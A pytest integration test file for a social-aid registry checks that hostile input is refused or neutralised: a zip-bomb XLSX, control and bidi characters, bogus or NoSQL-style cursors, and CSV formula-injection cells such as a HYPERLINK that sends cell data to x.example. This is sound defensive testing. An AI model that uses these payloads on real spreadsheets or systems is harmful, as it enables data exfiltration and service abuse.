"""Hostile files and text over the real stack (issue 9, points 6-9): what the gateway and the services refuse.

- a zip bomb posted as XLSX is refused (``archive_bomb``) before it is inflated, nothing imported;
- cells a spreadsheet would run as formulas are imported as given and warned about (``formula_like``),
  and the payment list's CSV export writes them as text;
- names made of control, bidi or zero-width characters are refused (``invalid_name``), overrides removed;
- addresses with control characters are refused (``invalid_address``);
- a bogus list cursor is refused (``invalid_cursor``) on every paginated route, through the gateway and the service.
"""

from __future__ import annotations

import csv
import io
import uuid
from collections.abc import AsyncIterator
from typing import Any

import httpx
import pytest
from openpyxl import Workbook

from common.aio.rpc import AsyncRpcClient
from common.context import CallerContext
from common.errors import ValidationFailed
from tests.integration.platform.conftest import AMQP_URI, auth, household, idem
from tests.integration.platform.test_aid_api import MONTH, YEAR, a_programme, step, unique_household
from tests.integration.platform.test_imports_api import finished, name
from tests.unit.registry_importing.conftest import padded_xlsx

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
WORKER = CallerContext(user_id="hostile-test", roles=("social-worker",), area="/DZ/16/1601", correlation_id="hostile")
COLUMNS = ["household_ref", "area", "address", "head_given_name_lat", "head_family_name_lat", "head_sex", "head_phone"]


def survey_row(ref: str, given: str | None = None, phone: str = "") -> list[str]:
    return [ref, "/DZ/16/1601", "5 rue Larbi Ben M'hidi", given or name(), name(), "F", phone]


def workbook(*rows: list[str]) -> bytes:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(COLUMNS)
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


async def run_import(gateway: httpx.AsyncClient, data: bytes, content_type: str, dry_run: bool) -> dict[str, Any]:
    source = f"hostile-{uuid.uuid4().hex[:10]}"
    response = await gateway.post(
        f"/v1/imports?source={source}&dry_run={str(dry_run).lower()}",
        content=data,
        headers=auth("agent.16", **{"Content-Type": content_type}),
    )
    assert response.status_code == 202, response.text
    job = await finished(gateway, response.json()["id"], "agent.16")
    assert job["status"] == "succeeded", job
    result: dict[str, Any] = job["result"]
    return result


@pytest.fixture
async def rpc() -> AsyncIterator[AsyncRpcClient]:
    client = AsyncRpcClient(AMQP_URI, timeout=10)
    await client.start()
    yield client
    await client.close()


def field_codes(response: httpx.Response) -> set[tuple[str, str]]:
    """The gateway's 422 as (field, code), the field without its place (``body.``, ``query.``)."""
    assert response.status_code == 422, response.text
    body = response.json()
    assert body["code"] == "validation_failed"
    return {(error["field"].split(".", 1)[1], error["code"]) for error in body["details"]["errors"]}


# ---------------------------------------------------------------- 6. zip bombs


async def test_a_zip_bomb_xlsx_is_refused_before_reading_and_nothing_is_imported(gateway: httpx.AsyncClient) -> None:
    plain = workbook(survey_row("BOMB-1"), survey_row("BOMB-2"))
    bomb = padded_xlsx(plain, 64)  # 64 MiB of sheet XML in well under 100 KiB
    assert len(bomb) < 100 * 1024

    refused = await run_import(gateway, bomb, XLSX, dry_run=False)
    assert refused["file_error"]["code"] == "archive_bomb", refused
    assert refused["file_error"]["row"] is None
    assert (refused["total_rows"], refused["created"], refused["updated"]) == (0, 0, 0)

    control = await run_import(gateway, plain, XLSX, dry_run=True)  # the same rows without the padding
    assert (control["file_error"], control["total_rows"], control["invalid"]) == (None, 2, 0)


# ---------------------------------------------------------------- 7. formulas in cells


async def test_formula_like_cells_are_imported_and_warned_about_phones_are_not(gateway: httpx.AsyncClient) -> None:
    out = io.StringIO()
    writer = csv.writer(out, delimiter=";", lineterminator="\r\n")
    writer.writerow(COLUMNS)
    writer.writerow(survey_row("F-1", given='=HYPERLINK("http://x.example/?"&A1,"Amina")'))
    writer.writerow(survey_row("F-2", phone="+213 550 12 34 56"))
    writer.writerow(survey_row("F-3", given="@SUM(A1:A9)"))

    result = await run_import(gateway, out.getvalue().encode(), "text/csv", dry_run=True)
    assert (result["total_rows"], result["invalid"], result["created"]) == (3, 0, 3)
    warned = [(w["row"], w["field"], w["code"]) for w in result["warnings"]]
    assert warned == [(2, "head_given_name_lat", "formula_like"), (4, "head_given_name_lat", "formula_like")]


async def a_failed_payment(gateway: httpx.AsyncClient, failure_reason: str) -> tuple[str, str]:
    """A cash grant listed, sent, and reported failed by the operator with ``failure_reason``: (list id, reference)."""
    code = await a_programme(gateway)
    registered = await gateway.post("/v1/households", json=unique_household(), headers=auth("worker.1601", **idem()))
    assert registered.status_code == 201, registered.text
    body = {
        "household_id": registered.json()["id"],
        "area": "/DZ/16/1601",
        "programme": code,
        "channel": "walk_in",
        "reason": "Sans revenu",
    }
    created = await gateway.post("/v1/aid-requests", json=body, headers=auth("worker.1601", **idem()))
    assert created.status_code == 201, created.text
    request_id = created.json()["id"]
    proposal = {
        "decision": "grant",
        "motive": "Éligible",
        "period": YEAR,
        "payment_point": {"kind": "ccp", "ref": "0098765432 10"},
    }
    for name_, user, payload in (
        ("diagnosis", "worker.1601", {"notes": "Visite faite"}),
        ("eligibility-check", "worker.1601", None),
        ("proposal", "worker.1601", proposal),
        ("approval", "coordinator.1601", {"motive": "Dossier complet"}),
    ):
        done = await step(gateway, request_id, name_, user, payload)
        assert done.status_code == 200, done.text
    built = await gateway.post("/v1/payment-lists", json={"period": MONTH, "area": "/DZ/16"}, headers=auth("agent.16"))
    assert built.status_code == 200, built.text
    (listed,) = [lst for lst in built.json()["lists"] if any(p["request_id"] == request_id for p in lst["payments"])]
    (payment,) = [p for p in listed["payments"] if p["request_id"] == request_id]
    sent = await gateway.post(f"/v1/payment-lists/{listed['id']}/sending", headers=auth("agent.16"))
    assert sent.status_code == 200, sent.text
    out = io.StringIO()
    csv.writer(out).writerows(
        [("reference", "status", "paid_at", "failure_reason"), (payment["reference"], "failed", "", failure_reason)]
    )
    reconciled = await gateway.post(
        "/v1/payment-reconciliations",
        content=out.getvalue().encode(),
        headers=auth("agent.16", **idem(), **{"Content-Type": "text/csv"}),
    )
    assert reconciled.status_code == 200, reconciled.text
    return listed["id"], payment["reference"]


async def test_the_payment_list_export_writes_formula_like_cells_as_text(gateway: httpx.AsyncClient) -> None:
    attack = '=HYPERLINK("http://x.example/?"&B2,"Compte clos")'
    list_id, reference = await a_failed_payment(gateway, attack)

    exported = await gateway.get(f"/v1/payment-lists/{list_id}/csv", headers=auth("agent.16"))
    assert exported.status_code == 200, exported.text
    assert exported.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig")), delimiter=";"))
    (row,) = [r for r in rows if r["reference"] == reference]
    assert (row["status"], row["failure"]) == ("failed", "'" + attack)
    assert row["amount_dzd"] == "15000" and not any(cell.startswith("=") for r in rows for cell in r.values())

    listed = await gateway.get(f"/v1/payment-lists/{list_id}", headers=auth("agent.16"))
    (stored,) = [p for p in listed.json()["payments"] if p["reference"] == reference]
    assert stored["failure"] == attack  # stored as given: only the export neutralises

    for outsider, answer in (("director.31", 404), ("worker.3101", 403), ("worker.1601", 403)):
        hidden = await gateway.get(f"/v1/payment-lists/{list_id}/csv", headers=auth(outsider))
        assert hidden.status_code == answer, hidden.text  # another wilaya: as if it did not exist; a role: refused
        assert reference not in hidden.text


# ---------------------------------------------------------------- 8. names and addresses


@pytest.mark.parametrize(
    ("given", "family"),
    [
        ("\x00\x00\x00", "Benali"),
        ("\x1b[8mAli", "Benali"),
        ("\u200b\u200c\u200d", "\u2060"),
        ("\u202e\u202c", "Benali"),
    ],
)
async def test_invisible_or_control_names_are_refused(gateway: httpx.AsyncClient, given: str, family: str) -> None:
    body = household("/DZ/16/1601", given=given, family=family)
    response = await gateway.post("/v1/households", json=body, headers={**auth("worker.1601"), **idem()})
    assert ("members.0.given_name_lat", "invalid_name") in field_codes(response)


async def test_bidi_overrides_and_zero_width_characters_are_not_stored(gateway: httpx.AsyncClient) -> None:
    given, family = name(), name()
    body = household("/DZ/16/1601", given=f"\u202e{given}\u202c", family=f"{family[:2]}\u200b{family[2:]}")
    created = await gateway.post("/v1/households", json=body, headers={**auth("worker.1601"), **idem()})
    assert created.status_code == 201, created.text
    read = await gateway.get(f"/v1/households/{created.json()['id']}", headers=auth("worker.1601"))
    head = read.json()["members"][0]
    assert (head["given_name_lat"], head["family_name_lat"], head["given_name_ar"]) == (given, family, "ياسين")


async def test_addresses_with_control_characters_are_refused_on_registration_and_update(
    gateway: httpx.AsyncClient,
) -> None:
    body = {**household("/DZ/16/1601", given=name()), "address": "Cité 5\x1b[2J, bloc A"}
    refused = await gateway.post("/v1/households", json=body, headers={**auth("worker.1601"), **idem()})
    assert field_codes(refused) == {("address", "invalid_address")}

    created = await gateway.post(
        "/v1/households",
        json=household("/DZ/16/1601", given=name(), family=name()),
        headers={**auth("worker.1601"), **idem()},
    )
    assert created.status_code == 201, created.text
    household_id = created.json()["id"]
    patched = await gateway.patch(
        f"/v1/households/{household_id}", json={"address": "\x00\x00\x00\x00"}, headers=auth("worker.1601")
    )
    assert field_codes(patched) == {("address", "invalid_address")}
    kept = await gateway.get(f"/v1/households/{household_id}", headers=auth("worker.1601"))
    assert kept.json()["address"] == household("/DZ/16/1601")["address"]


async def test_the_registry_refuses_a_bad_name_sent_past_the_gateway(rpc: AsyncRpcClient) -> None:
    body = household("/DZ/16/1601", given="\u200f\u200e")
    with pytest.raises(ValidationFailed) as caught:
        await rpc.call("registry", "register_household", body, uuid.uuid4().hex, context=WORKER)
    assert {(e["field"], e["code"]) for e in caught.value.details["errors"]} == {
        ("members.0.given_name_lat", "invalid_name")
    }


# ---------------------------------------------------------------- 9. cursors


@pytest.mark.parametrize("route", ["/v1/households", "/v1/aid-requests"])
@pytest.mark.parametrize("cursor", ["bogus", "0" * 23, "G" * 24, "65F1C0FFEE0DDBA11C0FFEE0", "{'$gt': ''}"])
async def test_a_bogus_cursor_is_refused_on_every_paginated_route(
    gateway: httpx.AsyncClient, route: str, cursor: str
) -> None:
    response = await gateway.get(route, params={"after": cursor}, headers=auth("worker.1601"))
    assert field_codes(response) == {("after", "invalid_cursor")}


@pytest.mark.parametrize("route", ["/v1/households", "/v1/aid-requests"])
async def test_the_next_cursor_a_page_answers_is_accepted(gateway: httpx.AsyncClient, route: str) -> None:
    first = await gateway.get(route, params={"limit": 1}, headers=auth("director.16"))
    assert first.status_code == 200, first.text
    cursor = first.json()["next_cursor"]
    if cursor is None:
        pytest.skip("a single item in the area: no second page to ask for")
    second = await gateway.get(route, params={"limit": 1, "after": cursor}, headers=auth("director.16"))
    assert second.status_code == 200, second.text
    assert [item["id"] for item in second.json()["items"]] != [item["id"] for item in first.json()["items"]]


@pytest.mark.parametrize(("service", "method"), [("registry", "list_households"), ("assistance", "list_aid_requests")])
async def test_the_services_refuse_a_bogus_cursor_too(rpc: AsyncRpcClient, service: str, method: str) -> None:
    with pytest.raises(ValidationFailed) as caught:
        await rpc.call(service, method, {"after": "bogus"}, context=WORKER)
    assert [(e["field"], e["code"]) for e in caught.value.details["errors"]] == [("after", "invalid_cursor")]
